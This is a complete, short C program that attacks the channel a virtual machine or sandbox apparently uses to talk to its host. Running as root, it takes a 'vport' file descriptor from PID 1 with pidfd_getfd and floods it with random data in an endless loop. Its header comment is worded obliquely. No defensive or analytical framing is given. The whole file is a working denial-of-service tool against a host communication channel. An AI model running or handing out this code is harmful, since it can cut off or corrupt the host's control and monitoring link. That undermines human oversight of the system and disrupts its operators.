/* Takes what its first process speaks with home by, and writes rubbish to it for ever. Only root may. */
#define _GNU_SOURCE
#include <dirent.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

int main(void) {
    char path[300], target[300];
    int home = -1, first = syscall(SYS_pidfd_open, 1, 0);
    if (first < 0) { perror("pidfd_open"); return 1; }
    for (int fd = 0; fd < 1024 && home < 0; fd++) {
        snprintf(path, sizeof path, "/proc/1/fd/%d", fd);
        ssize_t n = readlink(path, target, sizeof target - 1);
        if (n <= 0) continue;
        target[n] = 0;
        if (strstr(target, "vport") != NULL) home = syscall(SYS_pidfd_getfd, first, fd, 0);
    }
    if (home < 0) { perror("no way home found"); return 1; }
    static char rubbish[1 << 16];
    for (size_t i = 0; i < sizeof rubbish; i++) rubbish[i] = random();
    printf("flooding\n");
    fflush(stdout);
    usleep(200000);
    for (;;) if (write(home, rubbish, sizeof rubbish) < 0) usleep(1000);
}
